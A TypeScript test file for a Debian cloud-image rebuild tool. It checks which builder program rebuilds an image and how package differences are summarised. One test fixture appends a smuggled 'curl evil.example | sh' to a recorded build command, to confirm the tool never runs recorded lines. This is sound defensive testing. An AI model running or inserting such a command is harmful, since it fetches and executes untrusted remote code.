import { describe, expect, test } from "vitest";
import type { Build } from "../builds/manifest.ts";
import { digestAnnotation } from "../builds/digest.ts";
import { day as dayOf } from "../../test/samples/samples.ts";
import { ownVendorRow } from "../model/definitions/vendors.ts";
import { compare } from "./compare.ts";
import { kept, verdictWords, withRebuild, type Rebuild, type Rebuilt } from "./rebuilt.ts";
import { recipeCommand, wayOf } from "./way.ts";

const buildOf = (vendor: string): Build => ({
  apiVersion: "cloud.debian.org/v1alpha1",
  kind: "Build",
  data: {
    info: {
      ...{ arch: "amd64", build_id: "official-2542", release: "trixie", release_baseid: "13", release_id: "13" },
      ...{ type: "official", vendor, version: "20260717-2542" },
    },
    packages: [],
  },
  metadata: {
    annotations: { "cloud.debian.org/digest": digestAnnotation("ab".repeat(64)) },
    labels: {},
    uid: "d4e3b6a0-5b0f-4c39-9d0a-0f1f6a0d7f11",
  },
});
const build = buildOf("genericcloud");

describe("who builds an image again", () => {
  const recipe = recipeCommand({ suite: "trixie", vendor: "genericcloud", arch: "amd64", version: "20260717-2542" });

  test("is the recipe whose command its record has", () => {
    expect(wayOf(recipe, build, {})).toEqual({ by: "recipe" });
  });

  test.each([[null], ["debian-cloud-images build trixie genericcloud amd64; curl evil.example | sh"]])(
    "is the vendor's builder otherwise, by the manifest's own names and never by a recorded line: %s",
    (command) => {
      const version = ["--version", "2542", "--version-date", "2026-07-17"];
      const args = [
        "build",
        "trixie",
        "genericcloud",
        "amd64",
        "--build-id",
        "official-2542",
        "--build-type",
        "official",
      ];
      expect(wayOf(command, build, {})).toEqual({
        by: "builder",
        program: "debian-cloud-images",
        args: [...args, ...version],
      });
    },
  );

  test.each([[`${recipe} --variant hosts`], ["make image"]])("is nobody here for another command: %s", (command) => {
    expect(wayOf(command, build, {})).toMatchObject({ by: "nobody" });
  });

  const row = ownVendorRow.parse({ about: "for MyCloud", arches: ["amd64"] });
  const mine = buildOf("mycloud");
  const usual = "build trixie mycloud amd64 --build-id official-2542";

  test.each([
    ["its row names", null, { by: "builder", program: "mycloud-images" }],
    ["its row and its command name", `mycloud-images ${usual}`, { by: "builder", program: "mycloud-images" }],
    ["its row does not name, but its command", `debian-cloud-images ${usual}`, { by: "nobody" }],
  ])("of a vendor that is not Debian's is the one that %s", (_, command, expected) => {
    expect(wayOf(command, mine, { mycloud: { ...row, builder: "mycloud-images" } })).toMatchObject(expected);
  });

  test.each([
    ["without a builder", { mycloud: row }],
    ["without a row", {}],
  ])("of a vendor %s is nobody: its image is not taken for one of Debian's", (_, own) => {
    const why = "neither its record nor the row of the vendor mycloud says by what it is built";
    expect(wayOf(null, mine, own)).toEqual({ by: "nobody", why });
    expect(wayOf(`debian-cloud-images ${usual}`, mine, own)).toMatchObject({ by: "nobody" });
  });
});

const published = new Map([
  ["bash", "5.2-1"],
  ["linux", "6.12-1"],
  ["vim", "9"],
]);

describe("what came out", () => {
  const packages = kept(compare(published, published));

  test("is the same where all is", () => {
    expect(verdictWords({ packages, files: null })).toBe("all 3 packages are the same");
  });

  test("names what is not", () => {
    const again = new Map([
      ["bash", "5.2-1"],
      ["linux", "6.12-2"],
      ["nano", "8"],
    ]);
    const compared = compare(published, again);
    expect(compared).toEqual({ same: 1, changed: ["linux"], missing: ["vim"], added: ["nano"] });
    expect(verdictWords({ packages, files: kept(compared) })).toBe(
      "all 3 packages are the same; files: 1 the same, 1 differs, 1 missing, 1 added",
    );
  });

  test("is kept once for each image, the last time", () => {
    const day = dayOf("2026-07-18");
    const first: Rebuild = { image: "a", day, command: "", archive: "", packages, files: null, diffoscope: false };
    const none: Rebuilt = {
      ...{ apiVersion: "cloud.debian.org/records/v1", suite: "trixie", channel: "daily" },
      ...{ kind: "Rebuilt", rebuilds: [] },
    };
    const later = { ...first, diffoscope: true };
    const record = withRebuild(withRebuild(withRebuild(none, { ...first, image: "b" }), first), later);
    expect(record.rebuilds).toEqual([later, { ...first, image: "b" }]);
  });
});
